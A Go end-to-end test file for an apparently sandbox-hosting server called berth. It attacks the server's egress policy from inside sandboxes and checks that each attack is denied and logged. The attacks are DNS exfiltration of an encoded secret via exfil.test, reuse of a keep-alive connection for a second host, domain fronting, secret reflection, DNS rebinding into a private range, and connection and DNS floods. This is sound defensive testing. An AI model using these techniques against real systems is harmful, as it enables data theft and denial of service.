package e2e

import (
	"encoding/json"
	"errors"
	"fmt"
	"net/netip"
	"os"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/berth-dev/berth/internal/testutil"
)

// fetchAs runs the test HTTP(S) client in sandbox id as root (the tenant at
// its strongest), trusting the test CA and berth's egress CA.
func (s *server) fetchAs(id string, args ...string) (string, bool) {
	s.t.Helper()
	out, code := s.run(append([]string{"exec", "--user", "root", "--env", "SSL_CERT_DIR=/home/user/ca:/usr/local/share/ca-certificates",
		id, "--", "/home/user/fetch"}, args...)...)
	return out, code == 0
}

func (s *server) events(id string) []struct {
	Type, Reason, Message string
	Data                  map[string]string
} {
	s.t.Helper()
	var evs []struct {
		Type, Reason, Message string
		Data                  map[string]string
	}
	if err := json.Unmarshal([]byte(s.must("events", id, "--json")), &evs); err != nil {
		s.t.Fatal(err)
	}
	return evs
}

// waitLimitEvent waits for an egress_limit event for limit on sandbox id.
func (s *server) waitLimitEvent(id, limit string) bool {
	return testutil.Within(10*time.Second).Every(200*time.Millisecond).Until(func() error {
		for _, ev := range s.events(id) {
			if ev.Reason == "egress_limit" && ev.Data["limit"] == limit {
				return nil
			}
		}
		return errors.New("no egress_limit event")
	}) == nil
}

// TestEgressHoles attacks the egress policy from inside real sandboxes, as
// root, on runc and on runsc: DNS exfiltration, a second keep-alive request
// to another Host, domain fronting, secret reflection, private ranges, and
// one sandbox exhausting the proxy and the resolver for the others.
func TestEgressHoles(t *testing.T) {
	inet := newInternet(t)
	// A name that resolves into the operator's network, for the rebinding check.
	f, err := os.OpenFile(inet.hosts, os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	_, _ = f.WriteString("192.168.213.7 private.test\n")
	f.Close()
	// The upstream resolver: every name berth asks it is counted; it
	// answers with good.test's address, slowly for *.slow.test.
	up := testutil.StartDNSServer(t, netip.MustParseAddr(inet.prefix+".10"))
	up.SetSlow(".slow.test", 3*time.Second)
	const maxConns, maxDNS = 6, 3
	s := startServer(t, append(inet.serveArgs(), "--egress-resolver", up.Addr.String(),
		"--allow-private-egress", "172.31.254.0/24", "--default-network", "allow-all",
		"--egress-max-conns", strconv.Itoa(maxConns), "--egress-max-dns-inflight", strconv.Itoa(maxDNS))...)
	if out, code := s.runAs(s.key, strings.NewReader(testToken+"\n"), "secret", "set", "TOKEN", "--host", "secret.test",
		"--header", "Authorization: Bearer {{value}}"); code != 0 {
		t.Fatalf("secret set: %s", out)
	}

	// A tenant rule naming a private range is refused, naming the field;
	// the range the server opened is accepted.
	for _, rule := range []string{"10.0.0.0/8", "192.168.1.10", "169.254.169.254", "172.31.0.0/16"} {
		if out, code := s.run("create", "--template", "tiny", "--allow", rule); code != 2 || !strings.Contains(out, "allow") || !strings.Contains(out, rule) {
			t.Errorf("create --allow %s: exit %d: %s", rule, code, out)
		}
	}
	opened := s.create("--allow", "172.31.254.0/24:5432")
	if out, code := s.run("net", "set", opened, "--allow", "10.1.0.0/16"); code == 0 || !strings.Contains(out, "10.1.0.0/16") {
		t.Errorf("net set --allow 10.1.0.0/16: exit %d: %s", code, out)
	}
	s.must("rm", "-f", opened)

	for _, rt := range []string{"runc", "runsc"} {
		t.Run(rt, func(t *testing.T) {
			if rt == "runsc" && !strings.Contains(s.must("info"), "runsc") {
				testutil.Missing(t, "runsc is not configured on this server (scripts/setup.sh installs it)")
			}
			// The attacker: a name allow list, one CIDR rule (the test
			// internet's /24, public), and a secret for secret.test.
			a := s.create("--runtime", rt, "--secret", "TOKEN", "--allow", "good.test", "--allow", "*.up.test",
				"--allow", "*.slow.test", "--allow", "private.test", "--allow", inet.prefix+".0/24")
			b := s.create("--runtime", rt, "--allow", "good.test")
			s.installFetch(a, inet)
			s.installFetch(b, inet)

			t.Run("dns exfiltration", func(t *testing.T) {
				leak := "c2VjcmV0-" + rt + ".exfil.test"
				if out, ok := s.fetchAs(a, "http://"+leak+"/"); ok {
					t.Errorf("%s fetched: %s", leak, out)
				}
				if out, _ := s.run("exec", "--user", "root", a, "--", "nslookup", leak); strings.Contains(out, inet.prefix) {
					t.Errorf("nslookup %s answered: %s", leak, out)
				}
				if n := up.Count(leak); n != 0 {
					t.Errorf("the denied name %s reached the upstream resolver %d times", leak, n)
				}
				// Control: an allowed name is asked upstream and works.
				ok := "ok-" + rt + ".up.test"
				if out, good := s.fetchAs(a, "http://"+ok+"/"); !good || !strings.Contains(out, "host="+ok) {
					t.Errorf("%s: %q", ok, out)
				}
				if up.Count(ok) == 0 {
					t.Errorf("%s was never asked upstream: the counter does not work", ok)
				}
			})

			t.Run("keep-alive second host", func(t *testing.T) {
				out, ok := s.fetchAs(a, "http://good.test/", "http://good.test/|other.test")
				if ok || !strings.Contains(out, "host=good.test") || !strings.Contains(out, "[reused]") ||
					!strings.Contains(out, "HTTP 403") || strings.Contains(out, "host=other.test") {
					t.Errorf("second request for other.test on good.test's connection: %q", out)
				}
				if _, found := s.waitLog(a, func(e egressEntry) bool { return e.Verdict == "deny" && e.Host == "other.test" }); !found {
					t.Errorf("no denial of other.test in the log: %+v", s.netLog(a))
				}
			})

			t.Run("domain fronting", func(t *testing.T) {
				// SNI secret.test (allowed, intercepted for the grant), Host other.test.
				out, ok := s.fetchAs(a, "https://secret.test/|other.test")
				if ok || strings.Contains(out, "host=other.test") || strings.Contains(out, "auth=real") {
					t.Errorf("fronted request: %q", out)
				}
				if _, found := s.waitLog(a, func(e egressEntry) bool { return e.Rule == "host-mismatch" && e.Host == "other.test" }); !found {
					t.Errorf("no host-mismatch denial in the log: %+v", s.netLog(a))
				}
			})

			t.Run("secret reflection", func(t *testing.T) {
				out, ok := s.fetchAs(a, "https://secret.test/v1/x/$TOKEN?q=$TOKEN")
				if !ok || !strings.Contains(out, "auth=real") || !strings.Contains(out, "uri=placeholder") || strings.Contains(out, testToken) {
					t.Errorf("secret.test saw %q, want auth=real uri=placeholder", out)
				}
			})

			t.Run("name into a private range", func(t *testing.T) {
				if out, ok := s.fetchAs(a, "http://private.test/"); ok {
					t.Errorf("private.test (192.168.213.7) fetched: %s", out)
				}
				if _, found := s.waitLog(a, func(e egressEntry) bool {
					return e.Proto == "dns" && e.Host == "private.test" && e.Rule == "dns-rebinding"
				}); !found {
					t.Errorf("no dns-rebinding entry for private.test: %+v", s.netLog(a))
				}
			})

			t.Run("connection flood", func(t *testing.T) {
				s.must("exec", "--user", "root", a, "--", "sh", "-c",
					"/home/user/fetch -hold 20 -for 15s "+inet.prefix+".10:80 > /tmp/hold.out 2>&1 &")
				if !s.waitLimitEvent(a, "connections") {
					t.Fatalf("no egress_limit connections event: %+v", s.events(a))
				}
				// While a holds its cap, b connects and resolves.
				if out, ok := s.fetchAs(b, "http://good.test/"); !ok || !strings.Contains(out, "host=good.test") {
					t.Errorf("b during a's connection flood: %q", out)
				}
				var held string
				for deadline := time.Now().Add(40 * time.Second); time.Now().Before(deadline) && !strings.HasPrefix(held, "open "); {
					time.Sleep(500 * time.Millisecond)
					held, _ = s.run("exec", a, "--", "cat", "/tmp/hold.out")
				}
				n, _ := strconv.Atoi(strings.TrimSpace(strings.TrimPrefix(held, "open ")))
				if n > maxConns || n == 0 {
					t.Errorf("a held %d connections; the cap is %d (and some must get through)", n, maxConns)
				}
			})

			t.Run("dns flood", func(t *testing.T) {
				s.must("exec", "--user", "root", a, "--", "sh", "-c",
					"/home/user/fetch -lookup 12 'n%d-"+rt+".slow.test' > /tmp/lookup.out 2>&1 &")
				if !s.waitLimitEvent(a, "dns_inflight") {
					t.Fatalf("no egress_limit dns_inflight event: %+v", s.events(a))
				}
				if out, ok := s.fetchAs(b, "http://good.test/"); !ok || !strings.Contains(out, "host=good.test") {
					t.Errorf("b during a's DNS flood: %q", out)
				}
				if n := up.Total("-" + rt + ".slow.test"); n > 2*maxDNS*2 {
					t.Errorf("%d upstream queries for a's flood; at most %d lookups may be in flight", n, maxDNS)
				}
			})
		})
	}
}

// TestE2BInternetAccess: E2B's allow_internet_access decides the policy of
// a sandbox created through the E2B surface, over the server's default.
func TestE2BInternetAccess(t *testing.T) {
	inet := newInternet(t)
	s := startServer(t, append(inet.serveArgs(), "--default-network", "allow-all")...)
	for _, tc := range []struct {
		access any // the JSON value sent, nil = absent
		mode   string
		egress bool
	}{{false, "deny-all", false}, {true, "allow-all", true}, {nil, "allow-all", true}} {
		t.Run(fmt.Sprint(tc.access), func(t *testing.T) {
			body := map[string]any{"templateID": "tiny", "timeout": 300}
			if tc.access != nil {
				body["allow_internet_access"] = tc.access
			}
			code, sb := s.api(s.key, "POST", "/sandboxes", body)
			id, _ := sb["sandboxID"].(string)
			if code != 201 || id == "" {
				t.Fatalf("E2B create: HTTP %d %v", code, sb)
			}
			defer s.run("rm", "-f", id)
			if out := s.must("net", "show", id); !strings.Contains(out, tc.mode) {
				t.Errorf("net show: %s, want %s", out, tc.mode)
			}
			out, ok := s.fetch(id, "http://good.test/")
			if ok != tc.egress {
				t.Errorf("allow_internet_access %v: fetch good.test ok=%v: %q", tc.access, ok, out)
			}
		})
	}
}
